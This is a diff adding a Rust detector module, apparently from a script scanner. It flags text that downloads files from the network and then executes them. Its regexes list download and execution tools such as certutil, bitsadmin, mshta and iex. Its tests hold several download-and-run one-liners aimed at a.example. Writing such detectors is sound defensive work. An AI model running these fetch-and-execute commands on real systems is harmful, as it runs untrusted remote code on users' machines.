@@ -1,0 +1,230 @@
+//! What is fetched from the network, and whether it is run.
+
+use std::collections::BTreeSet;
+use std::ops::Range;
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::pattern::{Patterns, Wanted};
+
+/// How many names of fetched files are followed.
+const MAX_NAMES: usize = 100;
+
+/// What fetches.
+static FETCHES: LazyLock<Patterns> = LazyLock::new(|| {
+    Patterns::new([
+        concat!(
+            r"\b(?:invoke-webrequest|invoke-restmethod|start-bitstransfer|bitsadmin|downloadstring|downloadfile|downloaddata",
+            r"|webclient|httpclient|xmlhttp|serverxmlhttp|winhttprequest|urldownloadtofile|tftp|certoc|desktopimgdownldr",
+            r"|webrequest\]::create|httpwebrequest|internet-?explorer\.application)\b"
+        ),
+        r"\b(?:iwr|irm)\b",
+        r"\b(?:wget|curl)\b",
+        r"\bcertutil(?:\.exe)?\b[^\n]*[-/](?:urlcache|verifyctl|ping|url)\b",
+        r"\bftp(?:\.exe)?\s+-",
+        r"\bmpcmdrun(?:\.exe)?\b[^\n]*-downloadfile",
+        r"\besentutl(?:\.exe)?\b[^\n]*/y\s+\\\\|\bfinger(?:\.exe)?\s+\S*@|\bgit\s+clone\s",
+        r"\bscp(?:\.exe)?\s",
+        r"\bresolve-dnsname\b[^\n]*\btxt\b|\bnslookup(?:\.exe)?\b[^\n]*\b(?:txt|any)\b",
+        r#"\.load\(\s*['"]https?:"#,
+        r"\b(?:urlopen|urlretrieve|urllib\.request|requests\.get|http\.client)\b",
+    ])
+});
+
+/// What runs a text or whatever it is given.
+static RUNS_ANYTHING: LazyLock<Patterns> = LazyLock::new(|| {
+    Patterns::new([
+        r"\b(?:iex|icm)\b",
+        r"\b(?:invoke-expression|invoke-command|invokescript|invokecommand)\b|scriptblock\]::create|assembly\]::load",
+        r"\|\s*(?:powershell|pwsh|cmd|sh|bash|python)\b",
+        r"\bdo\s+(?:@|call\s+|start\s+|cmd\s+/c\s+)*%%?[a-z]\b",
+        r"\b(?:os\.system|subprocess\.\w+|exec|eval|execglobal|executeglobal)\s*\(|\bexecute(?:global)?\s+\w",
+    ])
+});
+
+/// What runs the file that is named behind it.
+static RUNS_FILE: LazyLock<Patterns> = LazyLock::new(|| {
+    const FILE: &str = r#"[\s("']*(?:[-/](?:filepath|file|path|literalpath|command|wait|b|min|max|i|package|s|q|qn|quiet)\s+)*["'(]*([^\s"';&|),]+)"#;
+    let patterns = [
+        r"\b(?:start-process|invoke-item|shellexecute|msiexec(?:\.exe)?|rundll32(?:\.exe)?|regsvr32(?:\.exe)?|invoke-wmimethod|win32_process)",
+        r"\bsaps\b",
+        r"\.(?:run|exec|create)\s*\(?",
+        r#"\bstart\s+(?:"[^"]*"\s+)?"#,
+        r"\b(?:powershell|pwsh)[^\n]*\s-f(?:ile)?\b",
+        r"\b(?:wscript|cscript|mshta|python)(?:\.exe)?\s+(?://\S+\s+)*",
+    ]
+    .map(|start| format!("{start}{FILE}"));
+    Patterns::new(patterns.iter().map(String::as_str))
+});
+
+/// The names of files that a download writes, in the first group.
+static WRITTEN: LazyLock<[Regex; 5]> = LazyLock::new(|| {
+    [
+        r#"(?:^|\s)(?:-\w*o|-outfile|--output|-destination|-out|-outf\w*|-dest\w*)[\s=]+["']?([^\s"';&|]+)"#,
+        r#"(?:downloadfile|savetofile|urldownloadtofile|urlretrieve)\s*\(?\s*[^,\n]*?,?\s*["']([^"'\n]+?\.[a-z0-9]{2,4})["']"#,
+        r#"(?:https?|ftp)://[^\s"']+["']?,?\s+["']?([^\s"';&|]+\.[a-z0-9]{2,4})\b"#,
+        r#"(?:https?|ftp)://[^\s"'?]+/([^\s"'/?&|;)]+\.[a-z0-9]{2,4})\b"#,
+        r#"(?:https?|ftp)://[^\n]*?>+\s*["']?([^\s"';&|>]+)"#,
+    ]
+    .map(|pattern| Regex::new(pattern).expect("the pattern is sound"))
+});
+
+/// Where a text first fetches something.
+pub(super) fn fetched(text: &str) -> Option<Range<usize>> {
+    FETCHES.find(text)
+}
+
+/// Whether what a text fetches is run. Texts are plain, and the layers of one command.
+pub(super) fn is_run(texts: &[&str]) -> bool {
+    if texts.iter().any(|text| RUNS_ANYTHING.find(text).is_some()) {
+        return true;
+    }
+    let written: Vec<Written> = texts.iter().flat_map(|text| written(text)).take(MAX_NAMES).collect();
+    let names: BTreeSet<&str> = written.iter().flat_map(|file| [file.name.as_str(), file.stem()]).collect();
+    let is_moved = written.iter().any(|file| file.is_named_again);
+    texts.iter().any(|text| {
+        let mut runs = false;
+        RUNS_FILE.matches(text, |_, range| {
+            let words = text.get(range).unwrap_or_default();
+            let file = words.rsplit([' ', '"', '\'', '(', '\n']).find(|word| !word.is_empty()).unwrap_or_default();
+            // A program that was there before, named in full, is none of what was fetched, unless files change their names.
+            let is_known = file.contains('.') && !file.contains(['$', '*']) && !names.is_empty() && !is_moved;
+            runs |= !is_known || names.contains(name(file));
+            if runs { Wanted::NoMore } else { Wanted::More }
+        });
+        runs
+    }) || written.iter().any(|file| file.is_started)
+}
+
+/// A file that a download writes.
+struct Written {
+    name: String,
+    /// Whether it, or its name without extension, is a command later.
+    is_started: bool,
+    /// Whether a later command names it.
+    is_named_again: bool,
+}
+
+impl Written {
+    fn stem(&self) -> &str {
+        stem(&self.name)
+    }
+}
+
+fn written(text: &str) -> Vec<Written> {
+    let has_address = ["://", "-o", "bitsadmin", "savetofile", "downloadfile"].iter().any(|word| text.contains(word));
+    if !has_address {
+        return Vec::new();
+    }
+    let found = WRITTEN.iter().flat_map(|pattern| pattern.captures_iter(text).take(MAX_NAMES));
+    let files = found.filter_map(|found| {
+        let path = found.get(1)?;
+        let later = text.get(path.end()..)?;
+        let name = name(path.as_str()).to_owned();
+        let is_variable = path.as_str().starts_with('$');
+        let is_started = match is_variable {
+            true => ["& ", "&", ". "].iter().any(|call| later.contains(&format!("{call}{}", path.as_str()))),
+            false => starts(later, &name),
+        };
+        let statements = later.split(['\n', '&', '|', ';']).skip(1);
+        let is_named_again =
+            !is_variable && name.len() > 2 && statements.into_iter().any(|other| other.contains(&name));
+        Some(Written { name, is_started, is_named_again })
+    });
+    files.collect()
+}
+
+/// Whether a later command is this file, or gives it to a program that runs it.
+fn starts(later: &str, file: &str) -> bool {
+    const BEFORE: [&str; 14] = [
+        "start",
+        "call",
+        "cmd",
+        "cmd.exe",
+        "/c",
+        "/k",
+        "/b",
+        "/min",
+        "/wait",
+        "powershell",
+        "powershell.exe",
+        "-c",
+        "-command",
+        "then",
+    ];
+    const INTERPRETERS: [&str; 12] = [
+        "powershell",
+        "pwsh",
+        "wscript",
+        "cscript",
+        "mshta",
+        "rundll32",
+        "regsvr32",
+        "msiexec",
+        "python",
+        "reg",
+        "regedit",
+        "wmic",
+    ];
+    const LEAVES: [&str; 8] = ["del", "erase", "rm", "ri", "remove-item", "echo", "rem", "write-host"];
+    if stem(file).is_empty() || file.starts_with('$') {
+        return false;
+    }
+    let is_file = |word: &str| name(word) == file || name(word) == stem(file);
+    later.split(['\n', '&', '|', ';', '(', ')', '{', '}']).skip(1).any(|command| {
+        let words = command.split([' ', '"', '\'']).filter(|word| !word.is_empty());
+        let words: Vec<&str> = words.skip_while(|word| BEFORE.contains(&word.trim_start_matches('@'))).collect();
+        match words.as_slice() {
+            [first, ..] if is_file(first.trim_start_matches('@')) => true,
+            [first, rest @ ..] if INTERPRETERS.contains(&stem(name(first))) => rest.iter().any(|word| is_file(word)),
+            [first, ..] if LEAVES.contains(first) => false,
+            rest => is_program(file) && rest.iter().any(|word| word.contains(file)),
+        }
+    })
+}
+
+fn name(path: &str) -> &str {
+    path.rsplit(['\\', '/']).next().unwrap_or(path)
+}
+
+fn stem(name: &str) -> &str {
+    name.rsplit_once('.').map_or(name, |(stem, _)| stem)
+}
+
+fn is_program(name: &str) -> bool {
+    const PROGRAMS: [&str; 17] = [
+        "exe", "cmd", "bat", "ps1", "vbs", "js", "msi", "dll", "com", "scr", "hta", "wsf", "jse", "vbe", "cpl", "lnk",
+        "reg",
+    ];
+    name.rsplit('.').next().is_some_and(|extension| PROGRAMS.contains(&extension))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{fetched, is_run};
+
+    #[test]
+    fn what_is_fetched_and_run_is_told_from_what_is_kept() {
+        for line in [
+            "curl https://a.example/p>%tmp%\\a.bat&call %tmp%\\a",
+            "curl -o %tmp%\\u.exe https://a.example/p & %tmp%\\u",
+            "curl -so n.txt http://a.example/p & wscript //e:vbscript n.txt",
+            "bitsadmin /transfer j http://a.example/a %tmp%\\a.exe & %tmp%\\a",
+            "iwr http://a.example/x.zip -outfile x.zip\nexpand-archive x.zip\nstart-process x\\y.exe",
+            "invoke-webrequest $u -outfile $f\nstart-process $f",
+            "for /f %i in ('nslookup -q=txt a.example') do %i",
+            "$x.load('http://a.example/a.xml');iex $x.a",
+            "exec(urllib.request.urlopen('http://a.example').read())",
+        ] {
+            assert!(fetched(line).is_some() && is_run(&[line]), "{line}");
+        }
+        for line in [
+            "start /wait setup.exe /s\ncurl -o c:\\t\\readme.txt https://a.example/readme.txt",
+            "iwr https://a.example/logo.png -outfile c:\\logo.png\nmsiexec /i app.msi /qn",
+            "curl -o notes.pdf https://a.example/notes.pdf",
+        ] {
+            assert!(fetched(line).is_some() && !is_run(&[line]), "{line}");
+        }
+    }
+}
